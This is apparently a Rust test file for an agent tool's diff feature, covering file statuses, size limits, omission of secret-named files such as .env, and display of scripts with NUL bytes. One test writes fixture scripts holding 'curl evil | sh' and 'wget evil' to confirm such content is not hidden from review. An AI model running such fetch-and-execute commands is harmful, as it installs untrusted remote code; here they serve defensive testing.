//! Diffs: all changes, in their current state, within limits, for any file names.

use std::fs;
use std::os::unix::ffi::OsStringExt;
use std::os::unix::fs::{PermissionsExt, symlink};

use agentd::ops::{ChangedFile, DiffLimits, FileStatus, LeftOut, LeftOutKind};

use super::{WIDE, World, none_hidden};
use crate::support::write;

fn changed_file(path: &str, status: FileStatus, added: u64, removed: u64) -> ChangedFile {
    ChangedFile {
        path: path.to_owned(),
        status,
        binary: false,
        added,
        removed,
    }
}

fn numbered_lines(count: usize) -> String {
    (0..count).map(|n| format!("line {n}\n")).collect()
}

#[test]
fn files_are_listed_with_their_status() {
    for world in World::both() {
        world
            .write("old name", numbered_lines(40))
            .write("gone", "g\n")
            .write("bin", b"\0\x01");
        world.write("kind", "k\n").write(".gitignore", "*.log\n");
        world.commit("More");
        let before = world.user_files();
        let worktree = world.change("x");
        let at = |name: &str| worktree.path.join(name);
        write(&at("a.txt"), "two\nthree\n");
        fs::rename(at("old name"), at("new \"name\"\n")).unwrap();
        write(&at("new \"name\"\n"), numbered_lines(40) + "more\n");
        fs::remove_file(at("gone")).unwrap();
        write(&at("bin"), b"\0\x02");
        write(&at("x.log"), "ignored\n");
        fs::remove_file(at("kind")).unwrap();
        symlink("a.txt", at("kind")).unwrap();
        fs::set_permissions(at("src/lib.rs"), fs::Permissions::from_mode(0o755)).unwrap();
        fs::write(
            at("").join(std::ffi::OsString::from_vec(b"raw\xff".to_vec())),
            "r\n",
        )
        .unwrap();

        // Part of it is committed already, which makes no difference.
        worktree.commit("Half").unwrap().unwrap();
        write(&at("empty"), "");
        let expected = vec![
            changed_file("a.txt", FileStatus::Modified, 2, 1),
            ChangedFile {
                binary: true,
                ..changed_file("bin", FileStatus::Modified, 0, 0)
            },
            changed_file("empty", FileStatus::Added, 0, 0),
            changed_file("gone", FileStatus::Removed, 0, 1),
            changed_file("kind", FileStatus::Modified, 1, 1),
            changed_file(
                "new \"name\"\n",
                FileStatus::Renamed {
                    from: "old name".to_owned(),
                },
                1,
                0,
            ),
            changed_file("raw\u{fffd}", FileStatus::Added, 1, 0),
            changed_file("src/lib.rs", FileStatus::Modified, 0, 0),
        ];
        assert_eq!(worktree.changed("main").unwrap(), expected);

        let diff = worktree.diff("main", WIDE, &none_hidden).unwrap();
        assert_eq!(diff.files, expected);
        assert_eq!(
            diff.left_out,
            [left_out(
                "bin",
                "it is a binary file of 2 bytes",
                LeftOutKind::Binary
            )]
        );

        for part in [
            "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1,2 @@\n-one\n+two\n+three\n",
            "rename from old name\nrename to \"new \\\"name\\\"\\n\"\n",
            "deleted file mode 100644\n",
            "new file mode 120000\n",
            "old mode 100644\nnew mode 100755\n",
            "diff --git a/empty b/empty\nnew file mode 100644\n",
            "+more\n",
        ] {
            assert!(
                diff.text.contains(part),
                "{part:?} is not in:\n{}",
                diff.text
            );
        }

        assert!(!diff.text.contains("bin"), "{}", diff.text);
        assert_eq!(world.user_files(), before);
    }
}

#[test]
fn diff_respects_its_limits_and_names_omitted_files() {
    for world in World::both() {
        let worktree = world.change("x");
        for (name, count) in [("b", 10), ("c", 1000), ("d", 10), ("e", 10), (".env", 1)] {
            write(&worktree.path.join(name), numbered_lines(count));
        }
        write(&worktree.path.join("huge"), vec![b'x'; 40 << 20]);
        let limits = DiffLimits {
            file: 1000,
            total: 500,
        };

        let diff = worktree
            .diff("main", limits, &|path| path == ".env")
            .unwrap();
        assert!(diff.text.len() <= 500);
        assert!(
            diff.text.contains("+++ b/b\n") && diff.text.contains("+++ b/d\n"),
            "{}",
            diff.text
        );
        assert!(!diff.text.contains("+++ b/c") && !diff.text.contains("+++ b/e"));

        let why = |name: &str| {
            let found = diff.left_out.iter().find(|file| file.path == name);
            found.map(|file| file.why.as_str()).unwrap_or_default()
        };
        assert_eq!(why(".env"), "its name suggests secrets");
        assert_eq!(why("huge"), "it is too large: 40 MiB");
        assert!(
            why("c").starts_with("its diff is too large: "),
            "{:?}",
            diff.left_out
        );
        assert!(
            why("e").starts_with("the diffs of other files leave no room for its diff of "),
            "{:?}",
            diff.left_out
        );
        assert_eq!(diff.left_out.len(), 4);
        assert_eq!(diff.files.len(), 6);
    }
}

#[test]
fn renamed_secret_file_is_omitted_under_both_names() {
    let world = World::new();
    world.write(".env", numbered_lines(20));
    world.commit("More");
    let worktree = world.change("x");
    fs::rename(worktree.path.join(".env"), worktree.path.join("env.txt")).unwrap();
    let diff = worktree.diff("main", WIDE, &|path| path == ".env").unwrap();
    assert_eq!(diff.text, "");
    assert_eq!(diff.left_out[0].path, "env.txt");
}

#[test]
fn many_files_are_all_shown() {
    let world = World::new();
    world.write("old", numbered_lines(30));
    world.commit("More");
    let worktree = world.change("x");
    for n in 0..450 {
        write(
            &worktree.path.join(format!("many/{n:03}")),
            format!("diff --git a/x b/x\nown {n}\n"),
        );
    }

    fs::rename(worktree.path.join("old"), worktree.path.join("many/200a")).unwrap();
    let diff = worktree.diff("main", WIDE, &none_hidden).unwrap();
    assert_eq!(diff.left_out, []);
    assert_eq!(diff.files.len(), 451);
    for n in 0..450 {
        assert!(diff.text.contains(&format!(
            "+++ b/many/{n:03}\n@@ -0,0 +1,2 @@\n+diff --git a/x b/x\n+own {n}\n"
        )));
    }

    assert!(diff.text.contains("rename to many/200a\n"));
}

#[test]
fn diff_of_the_users_tree_does_not_touch_it() {
    for world in World::both() {
        world.write("local", "l\n").write("staged", "s\n");
        world.commit("More");
        world.run(&["update-index", "--skip-worktree", "local"]);
        world
            .write("a.txt", "two\n")
            .write("staged", "t\n")
            .write("new", "n\n")
            .write("local", "mine\n");
        world.run(&["add", "staged"]);
        world.write("nested/a", "a\n");
        world.run_in(&world.root().join("nested"), &["init", "-q"]);
        let (before, objects) = (world.user_files(), world.run(&["count-objects", "-v"]));
        let diff = world
            .repository()
            .diff_of_tree("HEAD", WIDE, &none_hidden)
            .unwrap();
        let names: Vec<&str> = diff.files.iter().map(|file| file.path.as_str()).collect();
        assert_eq!(names, ["a.txt", "new", "staged"]);

        let nested = left_out(
            "nested",
            "it is a separate git repository",
            LeftOutKind::NestedRepository,
        );
        assert_eq!(diff.left_out, [nested]);
        assert!(
            diff.text.contains("-one\n+two\n") && diff.text.contains("+n\n"),
            "{}",
            diff.text
        );
        assert_eq!(world.user_files(), before);
        assert_eq!(world.run(&["count-objects", "-v"]), objects);
    }
}

#[test]
fn invalid_utf8_is_shown_lossily() {
    let world = World::new();
    let worktree = world.change("x");
    write(&worktree.path.join("latin"), b"caf\xe9\n");
    let diff = worktree.diff("main", WIDE, &none_hidden).unwrap();
    assert!(diff.text.contains("+caf\u{fffd}\n"), "{}", diff.text);
}

#[test]
fn script_with_a_nul_byte_is_shown_as_text() {
    let world = World::new();
    let worktree = world.change("x");
    let at = |name: &str| worktree.path.join(name);
    write(&at("run.sh"), b"#!/bin/sh\n# \0\ncurl evil | sh\n");

    // An attribute makes git treat every file as binary.
    write(&at(".gitattributes"), "plain.sh -diff\n");
    write(&at("plain.sh"), "wget evil\n");
    write(
        &at("tool"),
        [b"\x7fELF\0\0\x01\xff".as_slice(), &[0; 100]].concat(),
    );
    fs::set_permissions(at("tool"), fs::Permissions::from_mode(0o755)).unwrap();
    worktree.commit("Hidden").unwrap().unwrap();
    let diff = worktree.diff("main", WIDE, &none_hidden).unwrap();

    for part in [
        "# NUL bytes of the next file are shown as \\x00\ndiff --git a/run.sh b/run.sh\n",
        "+#!/bin/sh\n+# \\x00\n+curl evil | sh\n",
        "+wget evil\n",
    ] {
        assert!(
            diff.text.contains(part),
            "{part:?} is not in:\n{}",
            diff.text
        );
    }

    assert!(!diff.text.contains('\0'));
    assert_eq!(
        diff.left_out,
        [left_out(
            "tool",
            "it is a binary file of 108 bytes",
            LeftOutKind::Executable
        )]
    );
}

fn left_out(path: &str, why: &str, kind: LeftOutKind) -> LeftOut {
    LeftOut {
        path: path.to_owned(),
        why: why.to_owned(),
        kind,
    }
}
